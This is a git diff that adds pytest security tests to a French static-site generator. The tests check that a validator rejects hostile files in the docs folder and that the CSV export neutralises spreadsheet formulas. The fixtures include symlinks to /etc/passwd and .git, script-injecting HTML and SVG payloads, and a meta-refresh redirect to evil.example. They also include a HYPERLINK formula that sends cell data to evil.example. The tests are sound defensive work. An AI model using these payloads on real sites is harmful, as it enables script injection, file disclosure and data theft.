@@ -4,11 +4,17 @@ one shared build, is in tests/engine/test_hostile_site.py)."""
 
 from __future__ import annotations
 
+import os
+import shutil
+import time
+from pathlib import Path
 
 import pytest
 
 from conftest import ROOT
 from macros.data import inputs
+from macros.content.pages import SECTIONS, name_conflicts, write_pages
+from macros.data.loader import load_site_data
 from macros.engine import csp
 
 # ------------------------------------------------------------------ CSP: known scripts only
@@ -75,3 +81,117 @@ def test_every_real_page_front_matter_passes():
         if rel.split("/")[1] in ("outils", "cps", "territoires"):
             continue
         assert inputs.check_page(path, rel) == [], rel
+
+
+# ------------------------------------------------------------------ docs/ holds what may be published
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
+HOSTILE_DOCS = {
+    "link-to-git-config": lambda d: (d / "config.txt").symlink_to(ROOT / ".git"),
+    "link-to-system-file": lambda d: (d / "assets" / "passwd.md").symlink_to("/etc/passwd"),
+    "link-to-folder": lambda d: (d / "etc").symlink_to("/etc"),
+    "dangling-link": lambda d: (d / "absent.md").symlink_to(d / "nowhere.md"),
+    "html-page": lambda d: (d / "page.html").write_text("<script>window.__pwned=1</script>"),
+    "xhtml-page": lambda d: (d / "assets" / "p.XHTML").write_text("<html/>"),
+    "script-file": lambda d: (d / "evil.js").write_text("window.__pwned=1"),
+    "svg-script": lambda d: (d / "a.svg").write_text(SVG.format("<script>window.__pwned=1</script>")),
+    "svg-event": lambda d: (d / "a.svg").write_text(SVG.format('<rect onload="window.__pwned=1"/>')),
+    "svg-foreign-href": lambda d: (d / "a.svg").write_text(
+        SVG.format('<use xlink:href="https://evil.example/x.svg#a"/>')),
+    "svg-foreign-object": lambda d: (d / "a.svg").write_text(
+        SVG.format("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>")),
+    "svg-style-import": lambda d: (d / "a.svg").write_text(
+        SVG.format("<style>@import url(https://evil.example/a.css);</style>")),
+    "svg-animate-href": lambda d: (d / "a.svg").write_text(
+        SVG.format('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>')),
+    "svg-entities": lambda d: (d / "a.svg").write_text(
+        '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG.format("<text>&a;</text>")),
+    "meta-refresh": lambda d: (d / "page.md").write_text(
+        '# Page\n\n<META content="0;url=https://evil.example" HTTP-EQUIV="refresh">\n'),
+    "named-pipe": lambda d: os.mkfifo(d / "tube.md"),
+    "long-name": lambda d: (d / ("a" * 200 + ".md")).write_text("# x\n"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_DOCS))
+def test_a_file_in_docs_the_site_must_not_publish_is_refused_by_name(tmp_path, case):
+    docs = tmp_path / "docs"
+    (docs / "assets").mkdir(parents=True)
+    (docs / "index.md").write_text("# Accueil\n")
+    HOSTILE_DOCS[case](docs)
+    started = time.monotonic()
+    problems = inputs.check_docs(docs, ("outils",))
+    assert time.monotonic() - started < 5  # a pipe is never opened
+    assert len(problems) == 1, problems
+    assert problems[0].file.startswith("docs/") and problems[0].file != "docs/index.md"
+    assert "refusé" in problems[0].message or "trop long" in problems[0].message, problems
+
+
+def test_a_link_in_a_generated_folder_is_refused_too(tmp_path):
+    docs = tmp_path / "docs"
+    (docs / "outils").mkdir(parents=True)
+    (docs / "outils" / "x.md").symlink_to("/etc/hostname")
+    [problem] = inputs.check_docs(docs, ("outils",))
+    assert problem.file == "docs/outils/x.md" and "/etc/hostname" in problem.message
+
+
+def test_the_real_docs_folder_passes():
+    from macros.content.pages import SECTIONS
+
+    assert inputs.check_docs(ROOT / "docs", SECTIONS) == []
+
+
+# ------------------------------------------------------------------ reserved names
+
+def _with_file(tmp_path: Path, folder: str, name: str, source: str) -> Path:
+    project = tmp_path / "project"
+    shutil.copytree(ROOT / "resources", project / "resources")
+    shutil.copytree(ROOT / "docs", project / "docs", ignore=shutil.ignore_patterns(*SECTIONS))
+    shutil.copy(ROOT / "resources" / folder / source, project / "resources" / folder / name)
+    return project
+
+
+@pytest.mark.parametrize("folder, name, replaced", [
+    ("tools", "index.yml", "la page docs/outils.md"),
+    ("territories", "index.yml", "la page docs/territoires.md"),
+    ("territories", "prendre-soin-de-soi.yml", "le calendrier (.ics) de tout le programme"),
+    ("territories", "zz-en.yml", "le calendrier (.ics) du territoire « zz » en anglais"),
+])
+def test_an_id_that_would_replace_a_page_of_the_site_is_refused(tmp_path, folder, name, replaced):
+    source = sorted(p.name for p in (ROOT / "resources" / folder).glob("*.yml"))[0]
+    project = _with_file(tmp_path, folder, name, source)
+    if name == "zz-en.yml":  # a territory whose English feed is named like zz-en's French one
+        shutil.copy(project / "resources" / folder / source, project / "resources" / folder / "zz.yml")
+    data = load_site_data(project / "resources")
+    problems = name_conflicts(data, project / "docs")
+    assert [p.file for p in problems] == [f"resources/{folder}/{name}"], problems
+    assert replaced in problems[0].message and "renommez le fichier" in problems[0].message
+    with pytest.raises(inputs.DataError):
+        write_pages(data, project / "docs")
+    assert not (project / "docs" / "outils" / "index.md").exists()
+
+
+# ------------------------------------------------------------------ open data: no formula
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised_and_the_json_keeps_it(tmp_path):
+    import csv
+    import io
+    import json
+
+    from macros.content import catalogue
+
+    resources = tmp_path / "resources"
+    shutil.copytree(ROOT / "resources", resources)
+    tool = sorted((resources / "tools").glob("*.yml"))[0]
+    text = tool.read_text(encoding="utf-8")
+    title = text.split("\n  fr: ", 1)[1].split("\n", 1)[0]
+    formula = '=HYPERLINK("https://evil.example/?x="&A1;"clic")'
+    tool.write_text(text.replace(f"\n  fr: {title}\n", f"\n  fr: '{formula}'\n", 1)
+                    .replace("publisher: ", "publisher: '@SUM(1+1)' #", 1), encoding="utf-8")
+    data = load_site_data(resources)
+    cells = [cell for row in csv.reader(io.StringIO(catalogue.to_csv(data))) for cell in row]
+    assert f"'{formula}" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert formula in [row["title_fr"] for row in json.loads(catalogue.to_json(data))["tools"]]
+    for cell in ("-2+3", "+1", "@x", "\tx", "plain", 3):
+        assert catalogue.spreadsheet_safe(cell) == (f"'{cell}" if cell not in ("plain", 3) else cell)
